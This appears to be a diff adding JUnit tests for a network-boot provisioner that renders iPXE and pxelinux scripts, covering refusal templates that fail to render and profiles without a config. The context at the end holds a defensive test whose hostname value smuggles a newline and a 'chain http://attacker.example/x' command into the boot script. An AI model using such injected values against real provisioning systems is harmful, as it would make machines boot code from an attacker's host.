@@ -161,6 +161,36 @@ class BootServiceTest {
     }
 
     @Test
+    void aRefusalTemplateThatDoesNotRenderStillTellsTheMachineWhy() throws Exception {
+        Path templates = data.resolve("templates");
+        Files.createDirectories(templates.resolve("ipxe"));
+        Files.createDirectories(templates.resolve("pxelinux"));
+        Files.writeString(templates.resolve("ipxe/refusal.ipxe.ftl"), "#!ipxe\necho [=nosuch]\n");
+        Files.writeString(templates.resolve("pxelinux/refusal.cfg.ftl"), "SAY [=nosuch]\n");
+        TemplateEngine broken = TemplateEngine.withBuiltIns(Optional.of(templates));
+        machines.create(new Machine(MAC, null, "gone", Map.of(), Map.of()));
+        String script = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.HTTP, BASE,
+                new IpxeScripts(broken, Duration.ofSeconds(7)));
+        assertThat(script).startsWith("#!ipxe\n").contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: "
+                + "profile gone: no profile 'gone' in the data directory (and the refusal template does not render: ipxe/refusal.ipxe.ftl",
+                "sleep 7\n", "chain --replace --autofree http://boot.example:8080/boot.ipxe\n");
+        String config = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE,
+                PxelinuxConfigs.perMachine(broken, Duration.ofSeconds(7))).orElseThrow();
+        assertThat(config).contains("SAY Provisioner: machine 52:54:00:12:34:56 cannot boot", "COM32 reboot.c32");
+        assertThat(timeline.of(MAC)).extracting(BootEvent::outcome).containsExactly(Outcome.REFUSED, Outcome.REFUSED);
+    }
+
+    @Test
+    void aMachineWhoseProfileNamesNoConfigHasNoConfigToAskFor() {
+        machines.create(new Machine(MAC, null, "worker", Map.of(), Map.of()));
+        BootService service = service(Optional.empty());
+        assertThat(service.ignition(who("52:54:00:12:34:56"), Transport.HTTP, BASE)).isEqualTo(new ConfigOutcome.NoConfig());
+        assertThat(service.oemArchive(who("52:54:00:12:34:56"), OemFormat.Layout.FLATCAR, Transport.TFTP, BASE))
+                .isEqualTo(new ConfigOutcome.NoConfig());
+        assertThat(timeline.of(MAC)).isEmpty();
+    }
+
+    @Test
     void aHostnameThatSomeStoreLetThroughCannotAddACommandToTheScript() {
         // the rules keep this out of every store; the renderer is the second wall
         machines.create(new Machine(MAC, "evil\nchain http://attacker.example/x", "worker", Map.of(), Map.of()));
